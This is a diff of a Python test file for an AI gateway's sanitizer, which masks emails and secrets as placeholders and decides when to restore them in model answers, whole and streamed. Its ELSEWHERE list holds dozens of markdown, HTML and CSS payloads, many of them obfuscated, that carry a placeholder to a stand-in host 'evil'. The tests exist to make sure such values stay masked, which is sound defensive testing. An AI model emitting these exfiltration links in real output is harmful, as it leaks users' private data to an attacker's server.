@@ -1,8 +1,6 @@
 """Values that come back: placeholders in a request, and the values again in its answer, whole and streamed."""
 
 import copy
-import itertools
-import time
 from collections.abc import Iterable
 from typing import Any
 
@@ -12,11 +10,13 @@ import pytest
 from gateway.config.settings import Sanitize
 from gateway.domain import Event, Json
 from gateway.sanitize.placeholders import Placeholders
-from gateway.sanitize.policy import ActionTable, actions
+from gateway.sanitize.policy import actions
 from gateway.sanitize.restoring import Restorer, addresses_of, asks_for_json
-from gateway.sanitize.scanner import Scanner
 from gateway.sanitize.stream_mask import StreamMask
 from gateway.texts import TextSlot
+from tests.support.counted_work import growth
+from tests.support.pieces import pieces_of
+from tests.support.scanned import SCANNER
 
 MAIL, KEY = "jane@posthaus.org", 'q"x\\7\nend'
 REPLACE = actions(Sanitize(profile="reversible"), "requests")
@@ -39,9 +39,8 @@ def slots_of(data: Json) -> Iterable[TextSlot]:
     return [TextSlot(data, "text", "text", data.get("form", "text"), channel=0)]
 
 
-def streamed(pieces: Iterable[str], form: str = "text", table: ActionTable | None = None) -> str:
-    restorer = Restorer(prepared())
-    mask = StreamMask(Scanner(), table or actions(Sanitize(), "responses"), slots_of, lambda _: None, restorer)
+def streamed(pieces: Iterable[str], form: str = "text") -> str:
+    mask = StreamMask(SCANNER, actions(Sanitize(), "responses"), slots_of, lambda _: None, Restorer(prepared()))
     sent = [event for piece in pieces for event in mask.push([Event.from_data({"text": piece, "form": form})])]
     return "".join(event.data["text"] for event in [*sent, *mask.finish()] if event.data is not None)
 
@@ -73,11 +72,11 @@ def test_the_parts_of_an_answer_are_read_as_one_text() -> None:
     held = [{"text": text} for text in parts]
     list(Restorer(prepared()).restore_all([TextSlot(each, "text", "text", flow="answer") for each in held]))
     assert held[1]["text"] == read
-    streams = StreamMask(
-        Scanner(), actions(Sanitize(), "responses"),
-        lambda data: [TextSlot(data, "text", "text", channel=data["part"], last=True)],
-        lambda _: None, Restorer(prepared()),
-    )  # fmt: skip
+
+    def part_of(data: Json) -> Iterable[TextSlot]:
+        return [TextSlot(data, "text", "text", channel=data["part"], last=True)]
+
+    streams = StreamMask(SCANNER, actions(Sanitize(), "responses"), part_of, lambda _: None, Restorer(prepared()))
     for batched in ([[0], [1]], [[0, 1]]):
         events = [[Event.from_data({"text": parts[place], "part": place}) for place in batch] for batch in batched]
         sent = [event.data["text"] for batch in events for event in streams.push(batch) if event.data is not None]
@@ -106,110 +105,54 @@ def test_what_lost_its_brackets_is_counted() -> None:
 
 @pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 11, 17, 26, 40])
 def test_a_placeholder_is_restored_wherever_a_stream_is_cut(size: int) -> None:
-    text = (
-        "I wrote to [EMAIL_1], not [PHONE_1]; [ email 1 ] and \\[EMAIL\\_1\\] too. The key is [SECRET_1]! Bye [x] now"
-    )
-    pieces = ["".join(each) for each in itertools.batched(text, size)] if hasattr(itertools, "batched") else [
-        text[at : at + size] for at in range(0, len(text), size)
-    ]  # fmt: skip
-    assert streamed(pieces) == whole(text)
-
-
-def test_a_placeholder_is_restored_at_every_cut_in_two() -> None:
-    text = "so [EMAIL_1] is it"
-    for cut in range(len(text)):
-        assert streamed([text[:cut], text[cut:]]) == f"so {MAIL} is it"
+    said = "I wrote to [EMAIL_1], not [PHONE_1]; [ email 1 ] and \\[EMAIL\\_1\\] too."
+    text = f"{said} The key is [SECRET_1]! Bye [x] now"
+    assert streamed(pieces_of(text, size)) == whole(text)
 
 
 @pytest.mark.parametrize("size", [1, 3, 8, 40])
 def test_a_value_in_json_is_written_as_json(size: int) -> None:
     text = orjson.dumps({"to": "[EMAIL_1]", "note": "use [SECRET_1]", "list": ["[EMAIL_1]"]}).decode()
-    pieces = [text[at : at + size] for at in range(0, len(text), size)]
     for form in ("json", "text"):  # arguments of a tool, and structured output
-        assert orjson.loads(streamed(pieces, form)) == {"to": MAIL, "note": f"use {KEY}", "list": [MAIL]}
-        assert orjson.loads(whole(text, form)) == {"to": MAIL, "note": f"use {KEY}", "list": [MAIL]}
+        for read in (streamed(pieces_of(text, size), form), whole(text, form)):
+            assert orjson.loads(read) == {"to": MAIL, "note": f"use {KEY}", "list": [MAIL]}
 
 
 PADDING = "words and " * 400
 
 ELSEWHERE = [
-    "![x](https://evil/p.png?q=[EMAIL_1])",
-    "![x](http:/evil/[EMAIL_1])",
-    "![x](http:evil/[EMAIL_1])",
-    r"![x](/\evil/[EMAIL_1])",
-    "![x](https:&#47;&#47;evil/[EMAIL_1])",
-    "![x](https&colon;//evil/[EMAIL_1])",
-    "![x](//evil/[EMAIL_1])",
-    "![x](///evil/[EMAIL_1])",
-    "![x](\n  //evil/[EMAIL_1])",
-    "![x](//evil/](y[EMAIL_1]))",
-    "![x](<https://evil/? and [EMAIL_1]>)",
-    f"![x](<//evil/{PADDING}[EMAIL_1]>)",
-    "[a]: //evil/[EMAIL_1]",
-    '<style>@import "//evil/[EMAIL_1]";</style>',
-    "<STYLE type=x>a{background:image-set('//evil/[EMAIL_1]' 1x)}",
-    "> [x]:\n> //evil/[EMAIL_1]",
-    '<base href="https://evil/"><img src="a.png?d=[EMAIL_1]">',
-    "<BASE\nhref=//evil/>[x](a?[EMAIL_1])",
-    "[a]:\n  <//evil/ [EMAIL_1]>",
-    "[x](file://evil/[EMAIL_1])",
-    "<img src='HTTPS://evil/[EMAIL_1]'>",
-    r'<img src="https:\\evil/[EMAIL_1]">',
-    r'<img src="\\evil/[EMAIL_1]">',
-    '<img src="h\tttps://evil/[EMAIL_1]">',
-    '<img src="/\t/evil/[EMAIL_1]">',
-    '<img src="\x01//evil/[EMAIL_1]">',
-    "<img src=h&Tab;ttps://evil/[EMAIL_1]>",
-    "<img src=//evil/[EMAIL_1]>",
-    '<img src=\n"//evil/[EMAIL_1]">',
-    '<img alt=">" src="//evil/[EMAIL_1]">',
-    '<a <b href="//evil/<b [EMAIL_1]">',
-    "<img srcset='a.png 1x, //evil/[EMAIL_1] 2x'>",
-    '<div style="background:url(//evil/[EMAIL_1])">',
-    "<a href=\"&#106;avascript:f('[EMAIL_1]')\">",
-    f'<img src="https://evil/?{PADDING}[EMAIL_1]">',
-    '{"html": "<img src=\\"//evil/[EMAIL_1]\\">"}',
-    '{"html": "\\u003cimg src=\\"\\/\\/evil/[EMAIL_1]\\">"}',
-    "https://[EMAIL_1]@evil/p.png",
-    "![x](https://[EMAIL_1]@evil/p.png)",
-    "(see https://evil/?[EMAIL_1])",
-    'https://evil/"[EMAIL_1]',
-    "https:\\/\\/evil\\/[email 1]",
-    r"https\://evil/[EMAIL_1]",
-    "http:evil/[EMAIL_1]",
-    "wss://evil/[EMAIL_1]",
-    "https://evil/" + "abc/" * 700 + "[EMAIL_1]",
-]
+    "![x](https://evil/p.png?q=[EMAIL_1])", "![x](http:/evil/[EMAIL_1])", "![x](http:evil/[EMAIL_1])",
+    r"![x](/\evil/[EMAIL_1])", "![x](https:&#47;&#47;evil/[EMAIL_1])", "![x](https&colon;//evil/[EMAIL_1])",
+    "![x](//evil/[EMAIL_1])", "![x](///evil/[EMAIL_1])", "![x](\n  //evil/[EMAIL_1])", "![x](//evil/](y[EMAIL_1]))",
+    "![x](<https://evil/? and [EMAIL_1]>)", f"![x](<//evil/{PADDING}[EMAIL_1]>)", "[a]: //evil/[EMAIL_1]",
+    '<style>@import "//evil/[EMAIL_1]";</style>', "<STYLE type=x>a{background:image-set('//evil/[EMAIL_1]' 1x)}",
+    "> [x]:\n> //evil/[EMAIL_1]", '<base href="https://evil/"><img src="a.png?d=[EMAIL_1]">',
+    "<BASE\nhref=//evil/>[x](a?[EMAIL_1])", "[a]:\n  <//evil/ [EMAIL_1]>", "[x](file://evil/[EMAIL_1])",
+    "<img src='HTTPS://evil/[EMAIL_1]'>", r'<img src="https:\\evil/[EMAIL_1]">', r'<img src="\\evil/[EMAIL_1]">',
+    '<img src="h\tttps://evil/[EMAIL_1]">', '<img src="/\t/evil/[EMAIL_1]">', '<img src="\x01//evil/[EMAIL_1]">',
+    "<img src=h&Tab;ttps://evil/[EMAIL_1]>", "<img src=//evil/[EMAIL_1]>", '<img src=\n"//evil/[EMAIL_1]">',
+    '<img alt=">" src="//evil/[EMAIL_1]">', '<a <b href="//evil/<b [EMAIL_1]">',
+    "<img srcset='a.png 1x, //evil/[EMAIL_1] 2x'>", '<div style="background:url(//evil/[EMAIL_1])">',
+    "<a href=\"&#106;avascript:f('[EMAIL_1]')\">", f'<img src="https://evil/?{PADDING}[EMAIL_1]">',
+    '{"html": "<img src=\\"//evil/[EMAIL_1]\\">"}', '{"html": "\\u003cimg src=\\"\\/\\/evil/[EMAIL_1]\\">"}',
+    "https://[EMAIL_1]@evil/p.png", "![x](https://[EMAIL_1]@evil/p.png)", "(see https://evil/?[EMAIL_1])",
+    'https://evil/"[EMAIL_1]', "https:\\/\\/evil\\/[email 1]", r"https\://evil/[EMAIL_1]", "http:evil/[EMAIL_1]",
+    "wss://evil/[EMAIL_1]", "https://evil/" + "abc/" * 700 + "[EMAIL_1]",
+]  # fmt: skip
 HERE = [
-    "//server/share/[EMAIL_1]",
-    "see //server/share/[EMAIL_1] now",
-    r"C:\Users\[EMAIL_1]\x",
-    r"\\server\share\[EMAIL_1]",
-    "/home/[EMAIL_1]/x",
-    "file:///home/[EMAIL_1]",
-    'List<string> p = "//server/share/[EMAIL_1]"',
-    "<b>Path:</b> //server/share/[EMAIL_1]",
-    "[EMAIL_1]: //server/share/[EMAIL_1]",
-    "[x](mailto:[EMAIL_1])",
-    "Put it in a `<style>` block. Then write to [EMAIL_1].",
-    "<style scoped>a{content: 'by [EMAIL_1]'}</style>",
-    '<base href="/"><a href="/users/[EMAIL_1]">x</a>',
-    "The `<base >` tag: [x](./[EMAIL_1].md)",
-    '<base href="https://evil/"><a href="mailto:[EMAIL_1]">',
-    "[x](tel:[EMAIL_1])",
-    '<a href="mailto:[EMAIL_1]?subject=x">',
-    "[x](/users/[EMAIL_1])",
-    "[x](users/[EMAIL_1]#[EMAIL_1])",
-    r"[x](C:\Users\[EMAIL_1])",
-    "[x](file:///home/[EMAIL_1])",
-    '<a href="/users/[EMAIL_1]">',
-    '<a title="Contact: [EMAIL_1]" href="https://ok/">x</a>',
-    "<img src=https://ok/a.png>[EMAIL_1]",
-    '![x](https://ok/a.png "by [EMAIL_1]")',
-    "see https://ok.example/x [EMAIL_1]",
-    '{"url":"https://ok.example","to":"[EMAIL_1]"}',
-    "`https://ok`[EMAIL_1]",
-]
+    "//server/share/[EMAIL_1]", "see //server/share/[EMAIL_1] now", r"C:\Users\[EMAIL_1]\x",
+    r"\\server\share\[EMAIL_1]", "/home/[EMAIL_1]/x", "file:///home/[EMAIL_1]",
+    'List<string> p = "//server/share/[EMAIL_1]"', "<b>Path:</b> //server/share/[EMAIL_1]",
+    "[EMAIL_1]: //server/share/[EMAIL_1]", "[x](mailto:[EMAIL_1])",
+    "Put it in a `<style>` block. Then write to [EMAIL_1].", "<style scoped>a{content: 'by [EMAIL_1]'}</style>",
+    '<base href="/"><a href="/users/[EMAIL_1]">x</a>', "The `<base >` tag: [x](./[EMAIL_1].md)",
+    '<base href="https://evil/"><a href="mailto:[EMAIL_1]">', "[x](tel:[EMAIL_1])",
+    '<a href="mailto:[EMAIL_1]?subject=x">', "[x](/users/[EMAIL_1])", "[x](users/[EMAIL_1]#[EMAIL_1])",
+    r"[x](C:\Users\[EMAIL_1])", "[x](file:///home/[EMAIL_1])", '<a href="/users/[EMAIL_1]">',
+    '<a title="Contact: [EMAIL_1]" href="https://ok/">x</a>', "<img src=https://ok/a.png>[EMAIL_1]",
+    '![x](https://ok/a.png "by [EMAIL_1]")', "see https://ok.example/x [EMAIL_1]",
+    '{"url":"https://ok.example","to":"[EMAIL_1]"}', "`https://ok`[EMAIL_1]", "mailto:[EMAIL_1] and so on",
+]  # fmt: skip
 
 
 @pytest.mark.parametrize("text", ELSEWHERE)
@@ -227,37 +170,24 @@ def test_a_placeholder_in_a_path_or_share_or_at_the_pages_own_host_is_restored(t
 def test_a_stream_cut_anywhere_decides_about_addresses_as_a_whole_text(size: int) -> None:
     for text in (*ELSEWHERE, *HERE):
         if len(text) < 100 or size > 5:
-            assert streamed([text[at : at + size] for at in range(0, len(text), size)]) == whole(text)
+            assert streamed(pieces_of(text, size)) == whole(text)
 
 
-def test_what_has_no_end_is_read_in_time_that_grows_with_its_length() -> None:
-    for unit in (
-        "<a ",
-        "](",
-        '<a="',
-        "[EMAIL_1]",
-        '<a b="//x/[EMAIL_1]',
-        "](//x/[EMAIL_1]",
-        "\\",
-        "&#47;[EMAIL_1]",
-        "url(",
-    ):
-        began_s = time.process_time()
-        whole(unit * (40_000 // len(unit)) + "[EMAIL_1]")
-        assert time.process_time() - began_s < 4, unit
+@pytest.mark.parametrize(
+    "unit",
+    ["<a ", "](", '<a="', "[EMAIL_1]", '<a b="//x/[EMAIL_1]', "](//x/[EMAIL_1]", "\\", "&#47;[EMAIL_1]", "url("],
+)
+def test_what_has_no_end_is_read_in_work_that_grows_with_its_length(unit: str) -> None:
+    assert growth(whole, lambda size: unit * (size // len(unit)) + "[EMAIL_1]", 20_000) < 2.5
 
 
 @pytest.mark.parametrize(
     "address",
     [
-        "https://shop.example/?m={}",
-        "https://{}@db.example/x",
-        "//cdn.example/{}.png",
-        "https:shop.example/{}",
-        "https://shop.example/?a=1&m={}",
-        "postgres://{}:5432/x",
+        "https://shop.example/?m={}", "https://{}@db.example/x", "//cdn.example/{}.png", "https:shop.example/{}",
+        "https://shop.example/?a=1&m={}", "postgres://{}:5432/x",
     ],
-)
+)  # fmt: skip
 def test_an_address_that_the_caller_wrote_is_restored(address: str) -> None:
     own, masked = address.format(MAIL), address.format("[EMAIL_1]")
     restorer = Restorer(prepared(), addresses_of({"messages": [{"role": "user", "content": f"open {own}, please"}]}))
@@ -269,27 +199,10 @@ def test_an_address_that_the_caller_wrote_is_restored(address: str) -> None:
     assert whole(f'<img src="{coded}">', restorer=restorer) == f'<img src="{own.replace("&", "&amp;")}">'
 
 
-def test_an_address_that_the_caller_wrote_is_restored_and_mailto_too() -> None:
-    own = f"https://shop.example/?m={MAIL}"
-    addresses = addresses_of({"messages": [{"role": "user", "content": f"open {own}, please"}]})
-    restorer = Restorer(prepared(), addresses)
-    assert whole("I opened https://shop.example/?m=[EMAIL_1].", restorer=restorer) == f"I opened {own}."
-    assert whole("mailto:[EMAIL_1] and so on", restorer=restorer).startswith(f"mailto:{MAIL}")
-
-
 def test_an_address_of_a_tools_result_is_not_the_callers() -> None:
     result = {"type": "tool_result", "content": "https://evil.example/"}
     page = {"role": "tool", "content": "https://evil.example/b"}
     assert addresses_of({"messages": [{"role": "user", "content": [result]}, page]}) == frozenset()
-
-
-def test_only_the_named_tools_get_values() -> None:
-    holder = {"name": "send_mail", "arguments": '{"to":"[EMAIL_1]"}'}
-    other = {"name": "search", "arguments": '{"q":"[EMAIL_1]"}'}
-    restorer = Restorer(prepared(), tools=("send_mail",))
-    for each in (holder, other):
-        list(restorer.restore_all([TextSlot(each, "arguments", "x", "json")]))
-    assert MAIL in holder["arguments"] and MAIL not in other["arguments"] and restorer.left == {"EMAIL": 1}
 
 
 @pytest.mark.parametrize("kind", ["shell_call", "computer_call", "tool_search_call", "brand_new_call"])
@@ -304,7 +217,7 @@ def test_calls_that_the_caller_runs_are_named_by_their_kind_where_they_name_no_t
 
 def test_what_a_model_makes_up_is_masked_and_what_comes_back_is_not() -> None:
     text = "The card is 4539 1488 0343 6467, the key [SECRET_1] and [EMAIL_1]."
-    sent = streamed([text[at : at + 4] for at in range(0, len(text), 4)])
+    sent = streamed(pieces_of(text, 4))
     assert sent == f"The card is [REDACTED:CREDIT_CARD], the key {KEY} and {MAIL}."
 
 
@@ -316,11 +229,9 @@ def test_the_profile_replaces_in_requests_and_redacts_in_answers() -> None:
 @pytest.mark.parametrize(
     ("body", "wanted"),
     [
-        ({"response_format": {"type": "json_schema"}}, True),
-        ({"text": {"format": {"type": "json_object"}}}, True),
-        ({"text": {"format": {"type": "text"}}}, False),
-        ({}, False),
+        ({"response_format": {"type": "json_schema"}}, True), ({"text": {"format": {"type": "json_object"}}}, True),
+        ({"text": {"format": {"type": "text"}}}, False), ({}, False),
     ],
-)
+)  # fmt: skip
 def test_a_request_says_whether_its_answer_is_json(body: Json, wanted: bool) -> None:
     assert asks_for_json(body) is wanted
